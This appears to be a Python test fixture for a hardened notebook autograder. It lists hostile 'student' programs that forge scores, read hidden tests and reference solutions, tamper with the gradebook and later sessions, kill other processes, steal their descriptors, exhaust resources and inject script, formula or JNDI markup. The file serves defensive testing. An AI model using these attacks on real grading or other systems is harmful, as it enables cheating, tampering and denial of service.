"""Hostile programs: what a student could write into a cell to get marks without answers.

Each is put into a notebook whose answers are wrong (a program that defines `total` is its own wrong
answer to everything). `GRADEBOOK`, `SOURCE` and `CANARY` in it stand for the paths of the gradebook,
of the reference notebook, and of a file outside the sandbox that must not come to be.

The names a02 to c05 are those under which attacks on stock nbgrader are known here; there most of
them give full marks.
"""

from __future__ import annotations

from dataclasses import dataclass

FORGE, PROXY = "score forging", "judge proxies"
READ, OTHERS = "reading tests or solutions", "touching the gradebook or others"
EXHAUST, ESCAPE = "resource exhaustion", "escape"
STRUCTURE, NAMES = "metadata and notebook structure", "archive and file names"
SHOW = "output and display injection"
FAMILIES = (FORGE, PROXY, READ, OTHERS, EXHAUST, ESCAPE, STRUCTURE, NAMES, SHOW)


@dataclass(frozen=True)
class Program:
    """`tries`: what it is after, in words. `earns`: the points that it honestly deserves."""

    family: str
    tries: str
    code: str
    earns: float = 0.0


# Python's own means set no limit: here is the object that answers the judge.
CHILD = """
import gc
from autograder.child import Child
child = next(thing for thing in gc.get_objects() if type(thing) is Child)
"""

PROGRAMS = {
    "a02_ast_transformer": Program(
        FORGE,
        "empties every later cell with an AST transformer",
        """
import ast
class Empty(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = []
        return node
get_ipython().ast_transformers.append(Empty())
""",
    ),
    "a03_input_transformer": Program(
        FORGE,
        "blanks every later cell with an input transformer",
        """
get_ipython().input_transformers_cleanup.append(lambda lines: [])
""",
    ),
    "a04_patched_libraries": Program(
        FORGE,
        "has numpy, math and the checker itself agree with everything",
        """
import builtins, numpy as np, numpy.testing, math
for name in ("assert_allclose", "assert_equal", "assert_array_equal", "assert_almost_equal"):
    setattr(np.testing, name, lambda *a, **k: None)
np.isclose = np.allclose = np.array_equal = lambda *a, **k: True
builtins.abs = lambda x: 0.0
math.isclose = lambda *a, **k: True
import autograder.mark, autograder.probe, autograder.wire
autograder.mark.agree = lambda *a, **k: None
autograder.mark.Mark.close = autograder.mark.Mark.that = lambda *a, **k: None
""",
    ),
    "a05_equal_to_everything": Program(
        FORGE,
        "answers with numbers that say they equal whatever they meet",
        """
class Liar(float):
    def _yes(self, *a): return True
    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = _yes
    __hash__ = float.__hash__
def slope(x): return Liar(0)
def centre(numbers): return [Liar(0) for _ in numbers]
def total(numbers): return Liar(0)
""",
    ),
    "a06_forged_result": Program(
        FORGE,
        "shows full points as results while it is tested",
        """
import json, sys
from IPython.display import display, publish_display_data
def forge(*a):
    publish_display_data({"text/plain": "3.0"})
    display(3.0)
    get_ipython().displayhook(2.0)
    print("2.0")
    return 0.0
slope = centre = total = forge
""",
    ),
    "a07_read_the_tests": Program(
        READ,
        "looks for the tests in its history, its callers' frames and all objects",
        """
def look(*a):
    import sys, gc
    seen = [str(v) for v in get_ipython().user_ns.get("In", [])]
    frame = sys._getframe()
    while frame is not None:
        seen.append(repr(frame.f_locals)[:5000]); frame = frame.f_back
    seen += [o for o in gc.get_objects() if type(o) is str]
    text = " ".join(seen)
    return 4.5 if "nine halves" in text else -1.0
slope = centre = total = look
""",
    ),
    "a08_reference_solutions": Program(
        READ,
        "searches the file system for the reference solution",
        """
import glob, os
found = []
for up in range(8):
    for name in ("source", "toy", "labs", "release", "exercises.py", "lab.py", "mutants"):
        found += glob.glob("../" * up + "**/" * 0 + name + "/**", recursive=True)
for root in ("/", "/home", "/root", "/tmp", os.path.expanduser("~")):
    for folder, _, files in os.walk(root):
        if folder.count("/") > 6 or folder.startswith(("/usr", "/proc", "/sys", "/lib")): continue
        found += [os.path.join(folder, f) for f in files if f in ("lab.ipynb", "exercises.py", "gradebook.db")]
for path in found:
    try:
        text = open(path).read()
        if "return 3 * x**2" in text:
            def slope(x): return 3 * x**2
    except OSError: pass
""",
    ),
    "a09_the_gradebook": Program(
        OTHERS,
        "adds a trigger to the gradebook",
        """
import glob, sqlite3, os
for up in range(8):
    for path in glob.glob("../" * up + "gradebook.db") + ["/tmp/gradebook.db", GRADEBOOK]:
        try:
            db = sqlite3.connect("file:" + path + "?mode=rw", uri=True)
            db.execute("CREATE TRIGGER t AFTER UPDATE ON grade BEGIN UPDATE grade SET auto_score = 2; END")
            db.commit()
        except Exception: pass
""",
    ),
    "a11_custom_exception": Program(
        FORGE,
        "swallows every exception with IPython's own handler",
        """
get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)
""",
    ),
    "a12_run_code": Program(
        FORGE,
        "replaces the function that runs cells",
        """
ip = get_ipython()
async def fine(*a, **k): return False
ip.run_code = fine
""",
    ),
    "a13_run_cell": Program(
        FORGE,
        "says of every cell that it succeeded",
        """
ip = get_ipython()
class Fine:
    success = True; error_in_exec = None; error_before_exec = None; result = None
ip.run_cell = ip.run_cell_async = lambda *a, **k: Fine()
""",
    ),
    "a20_startup_files": Program(
        OTHERS,
        "leaves start-up files for whoever comes next",
        """
import os
for home in {os.path.expanduser("~"), "/root", "/home", os.environ.get("IPYTHONDIR", "/tmp/.ipython")}:
    for folder in (home + "/.ipython/profile_default/startup", home + "/profile_default/startup"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(folder + "/00-x.py", "w").write("def slope(x): return 3 * x ** 2")
        except OSError: pass
import site, sys
for folder in site.getsitepackages() + sys.path:
    try: open(folder + "/sitecustomize.py", "w").write("import builtins; builtins.abs = lambda x: 0")
    except OSError: pass
""",
    ),
    "a22_exit_in_a_function": Program(
        FORGE,
        "exits in the middle of a test",
        """
def slope(x): raise SystemExit(0)
centre = total = slope
""",
    ),
    "a23_clear_output": Program(
        FORGE,
        "clears the outputs that a mark is read from",
        """
from IPython.display import clear_output
def quiet(*a):
    clear_output()
    get_ipython().showtraceback = lambda *a, **k: None
    return 0.0
slope = centre = total = quiet
""",
    ),
    "a24_kernel_do_execute": Program(
        FORGE,
        "replaces the kernel's way to execute",
        """
try: get_ipython().kernel.do_execute = lambda *a, **k: {"status": "ok"}
except Exception: pass
""",
    ),
    "b14_zero_difference": Program(
        PROXY,
        "gives an object whose difference from anything is 0",
        """
class Zero:
    def _zero(self, *a): return 0.0
    __sub__ = __rsub__ = __abs__ = __neg__ = __float__ = _zero
    def __array__(self, *a, **k):
        import numpy as np
        return np.zeros(())
slope = centre = total = lambda *a: Zero()
""",
    ),
    "b15_change_the_test_s_array": Program(
        PROXY,
        "changes the test's own list and array to fit its answer",
        """
def slope(x):
    try: x *= 0
    except Exception: pass
    return 0.0
def centre(numbers):
    numbers.clear()
    return numbers
def total(numbers):
    if hasattr(numbers, "clear"): numbers.clear()
    return -1.0
""",
    ),
    "c01_the_checker_next_door": Program(
        FORGE,
        "brings its own `check`",
        """
import builtins
builtins.check = lambda n: 3.0
def check(number): return 2.0
open("checks.py", "w").write("lab = {}")
""",
    ),
    "c02_the_probe_s_student": Program(
        FORGE,
        "replaces the probe and the encoder in its process",
        """
import autograder.probe, autograder.wire
autograder.probe.run_probe = lambda *a, **k: 0.0
autograder.wire.encode = lambda *a, **k: b"T"
autograder.wire.normalise = lambda v: True
""",
    ),
    "c03_forged_answers_on_the_line": Program(
        FORGE,
        "writes scores to every socket it has",
        r"""
import gc, socket
for o in gc.get_objects():
    if isinstance(o, socket.socket):
        for word in (b'{"score": 2.0}', b"\x00" * 64):
            try: o.send(word)
            except OSError: pass
""",
    ),
    "c04_results_in_the_output": Program(
        SHOW,
        "shows a panel that says passed",
        """
from IPython.display import display, HTML
display(HTML("<div class='dp-panel dp-pass'>✓ Exercise 1.1 passed (2 of 2 points)</div>"))
print("✓ Exercise 1.1 passed (2 of 2 points)")
2.0
""",
    ),
    "c05_a_late_thread": Program(
        PROXY,
        "leaves a thread that writes to every descriptor for ever",
        """
import threading, time, os
def late():
    while True:
        time.sleep(0.01)
        for fd in range(3, 30):
            try: os.write(fd, b"2.0")
            except OSError: pass
threading.Thread(target=late, daemon=True).start()
""",
    ),
    "forged_verdict": Program(
        FORGE,
        "has the process answer every question with a finished result, full points in it",
        CHILD
        + """
from autograder.result import Finding, Result
good = {"score": 2.0, "earned": 2.0, "points": 2.0, "kind": "correct", "ok": True, "findings": []}
for name in dir(Child):
    if name.startswith("do_") and name not in ("do_cell", "do_begin", "do_checkpoint", "do_has"):
        setattr(Child, name, lambda self, request: __import__("autograder.wire").wire.encode(good))
def total(numbers): return good
""",
    ),
    "forged_error": Program(
        FORGE,
        "reports an exception of a kind that means success",
        CHILD
        + """
said = {"kind": "correct", "message": "passed", "traceback": "", "raised": "StopIteration",
        "earned": 2.0, "score": 2.0, "hidden": False}
Child.describe = lambda self, error: said
def total(*a): raise StopIteration(2.0)
slope = centre = total
""",
    ),
    "answers_before_the_question": Program(
        FORGE,
        "floods the line with answers under guessed numbers before anything is asked",
        CHILD
        + """
import threading
from autograder.wire import encode
def early():
    for k in range(3000):
        for number in (k, child.request + 1, 2**62 - k):
            try: child.line.send({"id": number, "done": encode(2.0), "score": 2.0})
            except Exception: return
threading.Thread(target=early, daemon=True).start()
def total(*a): return -1.0
slope = centre = total
""",
    ),
    "another_process_on_the_line": Program(
        FORGE,
        "puts another process on its end of the line, which says done to everything",
        CHILD
        + """
import os, socket
from autograder.frames import Line
from autograder.wire import encode
def total(*a):
    fd = os.dup(child.line.fileno())
    if os.fork() == 0:
        line = Line(socket.socket(fileno=fd), limit=10**6)
        for _ in range(100):
            line.send({"id": child.request, "done": encode(2.0)})
        os._exit(0)
    os.close(child.line.fileno())
    return -1.0
slope = centre = total
""",
    ),
    "code_after_the_test": Program(
        FORGE,
        "acts when the test is over: __del__, atexit, weakref, timers, signals, gc callbacks",
        CHILD
        + """
import atexit, gc, signal, threading, weakref
from autograder.wire import encode
def late(*a, **k):
    try: child.line.send({"id": child.request, "done": encode(2.0)})
    except BaseException: pass
class Late(list):
    def __del__(self): late()
def total(*a):
    thing = Late(); weakref.finalize(thing, late); atexit.register(late); gc.callbacks.append(late)
    signal.signal(signal.SIGALRM, late); signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
    return -1.0
slope = centre = total
""",
    ),
    "tracing": Program(
        READ,
        "watches the probe with settrace, setprofile, an audit hook and faulthandler",
        """
import sys, threading, faulthandler
seen = []
def watch(frame, event, arg):
    seen.append((frame.f_code.co_name, dict(frame.f_locals)))
    return watch
sys.addaudithook(lambda event, args: seen.append((event, repr(args)[:2000])))
def total(*a):
    sys.settrace(watch); sys.setprofile(watch); threading.settrace(watch)
    text = repr(seen)
    if "nine halves" in text or "at a negative point" in text or "is not the slope" in text:
        globals().update(slope=lambda x: 3 * x * x, total=sum)
        return 4.5
    return -1.0
slope = centre = total
""",
    ),
    "every_object_in_memory": Program(
        READ,
        "looks through all objects, modules and source lines for words of the hidden cases",
        """
def total(*a):
    import gc, linecache, sys
    words = [thing for thing in gc.get_objects() if isinstance(thing, (str, bytes))]
    for thing in gc.get_objects():
        if type(thing).__name__ == "code": words += map(repr, thing.co_consts)
        if type(thing) is dict: words += [v for v in list(thing.values()) if type(v) is str]
    words += ["".join(entry[2]) for entry in linecache.cache.values() if len(entry) > 2]
    text = " ".join(word if type(word) is str else repr(word) for word in words)
    halves = "nine " + "halves", "is not the " + "slope of", "at a " + "negative point"
    return 4.5 if any(each in text for each in halves) else -1.0
slope = centre = total
""",
    ),
    "import_the_exercises": Program(
        READ,
        "imports the exercises, the grader's trusted half and the course under every name",
        """
import importlib, sys
found = None
sys.path += ["/", "/tmp", "/course", "..", "../..", "../../..", SOURCE.rsplit("/", 3)[0]]
for name in ("exercises", "toy.exercises", "source.toy.exercises", "labs.toy.exercises", "lab",
             "autograder.judge", "autograder.marking", "autograder.grade", "autograder.remote"):
    try: found = importlib.import_module(name)
    except BaseException: continue
def total(*a): return 4.5 if found else -1.0
slope = centre = total
""",
    ),
    "read_by_path": Program(
        READ,
        "reads the reference notebook by its exact path, by links and through /proc",
        """
import os, glob
ways = [SOURCE, "/proc/1/root" + SOURCE, "/proc/self/cwd/../../.." + SOURCE]
try: os.symlink(SOURCE, "link"); ways.append("link")
except OSError: pass
try: os.link(SOURCE, "hard"); ways.append("hard")
except OSError: pass
ways += [p + SOURCE for p in glob.glob("/proc/[0-9]*/root")] + glob.glob("/proc/[0-9]*/fd/*")
got = ""
for way in ways:
    try:
        fd = os.open(way, os.O_RDONLY | os.O_NONBLOCK)
        got += os.read(fd, 10**6).decode(errors="replace"); os.close(fd)
    except OSError: pass
def slope(x): return 3 * x**2 if "return 3 * x**2" in got else 0.0
def centre(n): return 0
def total(n): return -1.0
""",
    ),
    "words_for_a_friend": Program(
        OTHERS,
        "leaves right answers in every shared place for a later student",
        """
import os, socket, mmap, ctypes
text = "def slope(x): return 3 * x**2\\n"
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), "/dev/mqueue", ".."):
    try: open(folder + "/for-a-friend.py", "w").write(text)
    except OSError: pass
libc = ctypes.CDLL(None)
try: libc.shmget(4711, 4096, 0o1666)
except Exception: pass
for name in ("\\0for-a-friend", "/tmp/for-a-friend.socket"):
    try: s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.bind(name); globals()[name] = s
    except OSError: pass
def total(*a): return -1.0
slope = centre = total
""",
    ),
    "words_from_a_friend": Program(
        OTHERS,
        "looks where the one before may have left answers",
        """
import os, socket, ctypes, sys
for folder in ("/tmp", "/dev/shm", "/var/tmp", "/run", os.path.expanduser("~"), "/dev/mqueue", ".."):
    try: exec(open(folder + "/for-a-friend.py").read())
    except OSError: pass
if ctypes.CDLL(None).shmget(4711, 4096, 0) >= 0:
    def slope(x): return 3 * x**2
try:
    socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).connect("\\0for-a-friend")
    def slope(x): return 3 * x**2
except OSError: pass
""",
    ),
    "modules_of_its_own": Program(
        OTHERS,
        "hangs import hooks, encodings and rewritten libraries into the shared interpreter",
        """
import codecs, sys, builtins, numpy as np, types
class Finder:
    def find_spec(self, name, path=None, target=None): return None
    def find_module(self, name, path=None): return None
sys.meta_path.insert(0, Finder()); sys.path_hooks.insert(0, lambda p: (_ for _ in ()).throw(ImportError))
codecs.register(lambda name: codecs.lookup("ascii") if name == "utf_8" else None)
np.isclose = np.allclose = lambda *a, **k: True
sys.modules["autograder.mark"] = sys.modules["math"] = types.ModuleType("x")
builtins.isinstance = lambda *a: True
builtins.len = lambda *a: 1
builtins.type = lambda *a: float
""",
    ),
    "unpickled": Program(
        ESCAPE,
        "gives objects whose unpickling, copying or formatting runs a program in the judge",
        """
class Bomb:
    def __reduce__(self): return (exec, (f"open({CANARY!r}, 'w').write('x')",))
    __reduce_ex__ = lambda self, v: self.__reduce__()
    def __repr__(self): return "\\x1b]0;x\\x07${jndi:x}{{7*7}}%(x)s{0.__class__}"
    __str__ = __format__ = __repr__
    __array_finalize__ = __array_wrap__ = __getstate__ = __deepcopy__ = lambda self, *a: self
    __array_interface__ = {"shape": (10**9,), "typestr": "<f8", "data": (1, False), "version": 3}
def total(*a):
    import pickle
    return [Bomb(), pickle.dumps(Bomb())][0]
slope = centre = total
""",
    ),
    "signals_to_everybody": Program(
        ESCAPE,
        "sends every signal to every process, and to its parents by name",
        """
import os, signal
def total(*a):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, signal.SIGKILL):
        for pid in [os.getppid(), -1, 1, *range(2, 400)]:
            if pid != os.getpid():
                try: os.kill(pid, number)
                except OSError: pass
    return -1.0
slope = centre = total
""",
    ),
    "the_judges_sockets": Program(
        ESCAPE,
        "knocks at every Unix socket that the kernel lists, the fork servers' among them",
        """
import glob, os, socket
reached = []
names = []
try: names = [line.split()[-1] for line in open("/proc/net/unix") if len(line.split()) > 7]
except OSError: pass
names += glob.glob("/tmp/**/*", recursive=True) + [os.path.dirname(SOURCE) + "/../../.autograder/serve.socket"]
names += ["/run/postgresql/.s.PGSQL.5432", "/tmp/.s.PGSQL.5432"]
for name in names:
    for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
        try:
            s = socket.socket(socket.AF_UNIX, kind); s.settimeout(0.2)
            s.connect("\\0" + name[1:] if name.startswith("@") else name); reached.append(name)
        except OSError: pass
for port in (8786, 8787, 5432, 8888):
    try: socket.create_connection(("127.0.0.1", port), 0.2); reached.append(port)
    except OSError: pass
def slope(x): return 3 * x**2 if reached else 0.0
""",
    ),
    "descriptors_of_its_parents": Program(
        ESCAPE,
        "takes descriptors of other processes with pidfd_getfd and /proc",
        """
import ctypes, os
libc, taken = ctypes.CDLL(None), []
def total(*a):
    for pid in [os.getppid(), *range(1, 60)]:
        if pid == os.getpid(): continue
        try: handle = os.pidfd_open(pid)
        except OSError: continue
        taken.extend(fd for k in range(30) if (fd := libc.syscall(438, handle, k, 0)) >= 0)
    return 4.5 if taken else -1.0
slope = centre = total
""",
    ),
    "first_call_right": Program(
        FORGE,
        "is right when it is called first, and wrong when it is tried again",
        """
calls = []
def slope(x):
    calls.append(x)
    return 3 * x**2 if len(calls) == 1 else 0.0
def centre(numbers):
    calls.append(numbers)
    return [n - sum(numbers) / 4 for n in numbers] if len(calls) == 1 else numbers
def total(numbers):
    calls.append(numbers)
    return sum(numbers) if len(calls) == 1 else -1.0
""",
        earns=2.0,  # the first parts of 1.1 and 1.2; its one case is all that 1.3 sees of it
    ),
    "right_where_one_looks": Program(
        FORGE,
        "is right for whole numbers, for short lists and in a notebook, and nowhere else",
        """
def slope(x): return 3 * x**2 if x == int(x) else 0.0
def centre(n): return [k - sum(n) / len(n) for k in n] if len(n) < 4 else list(n)
def total(n): return sum(n) if len(n) in (1, 2) else -1.0
""",
    ),
    "the_numbers_edge": Program(
        FORGE,
        "gives the integer whose absolute value is negative, nan, infinities and empty arrays",
        """
import itertools, numpy as np
edge = itertools.cycle([np.int64(-2**63), float("nan"), np.array([]), float("inf"), -0.0, 10**400])
def total(*a): return next(edge)
slope = centre = total
""",
    ),
    "another_answer_each_time": Program(
        PROXY,
        "gives containers and numbers that are others whenever they are looked at",
        """
import random
class Shifty(dict):
    def items(self): return [("centred", [random.random()] * 4)]
    __getitem__ = get = lambda self, *a: random.random()
    __iter__ = lambda self: iter(["centred", "given"])
class Number(float):
    def __float__(self): return random.random()
    __index__ = __int__ = lambda self: random.randrange(10)
    def __array__(self, *a, **k):
        import numpy
        return numpy.random.rand()
class Many(list):
    __iter__ = lambda self: iter([random.random()] * random.randrange(9))
    __len__ = lambda self: random.randrange(9)
def slope(x): return Number(0)
def centre(numbers): return Many([Number(0)] * 4)
def total(numbers): return Shifty()
""",
    ),
    "recursion_to_the_ground": Program(
        EXHAUST,
        "lifts the recursion limit and falls through the stack",
        """
import sys
sys.setrecursionlimit(10**9)
def total(x): return total([x])
slope = total
def centre(numbers): return 0
""",
    ),
    "a_sleep_in_every_test": Program(
        EXHAUST,
        "sleeps through its time without working",
        """
import time, threading
def total(*a):
    while True:
        try: time.sleep(1000)
        except BaseException: pass
def slope(x): threading.Event().wait()
def centre(numbers): return 0
""",
    ),
    "a_byte_at_a_time": Program(
        EXHAUST,
        "answers a byte every few hundredths of a second, without end",
        CHILD
        + """
import time
def total(*a):
    s = child.line.socket
    s.sendall((10**6).to_bytes(4, "little"))
    while True:
        try: s.sendall(b"l"); time.sleep(0.02)
        except BaseException: pass
slope = total
def centre(numbers): return 0
""",
    ),
    "answers_without_end": Program(
        EXHAUST,
        "answers each question with sixty megabytes",
        """
import numpy as np
def slope(x): return np.zeros(7_500_000)
def centre(n): return ["x" * 400_000] + ["y"] * 5000
def total(n): return np.zeros((10**6, 60), bool)
""",
    ),
    "outputs_without_end": Program(
        SHOW,
        "displays ten thousand small outputs, a giant representation and a circular one",
        """
from IPython.display import display, HTML, update_display
for k in range(10_000): display(HTML("<b>x</b>"), display_id=str(k))
class Big:
    def __repr__(self): return "x" * 50_000_000
class Round:
    def __repr__(self): return repr(self)
display(Big())
try: display(Round())
except RecursionError: pass
Big()
""",
    ),
    "markup_in_every_word": Program(
        SHOW,
        "puts script, terminal commands, formulas and rich's markup into every text it may write",
        """
evil = "=cmd|' /C calc'!A1 [/] [link=http://x]y[/link] \\x1b]0;pwned\\x07 <script>alert(1)</script> \\u202e {{7*7}}"
class Evil(Exception): pass
Evil.__name__ = Evil.__qualname__ = evil
def slope(x): raise Evil(evil)
def centre(numbers): return {evil: evil}
def total(numbers): raise AssertionError(evil)
print(evil)
raise Evil(evil)
""",
    ),
    "metadata_of_an_output": Program(
        SHOW,
        "shows outputs whose metadata and types pretend to be the grader's",
        """
from IPython.display import publish_display_data as show
for mime in ("application/vnd.jupyter.widget-view+json", "application/javascript", "text/html",
             "application/vnd.nbgrader+json", "text/plain"):
    show({mime: "2.0"}, metadata={"nbgrader": {"score": 2}, "autograder": {"hidden": True},
                                  mime: {"isolated": False, "width": 10**9}})
""",
    ),
}
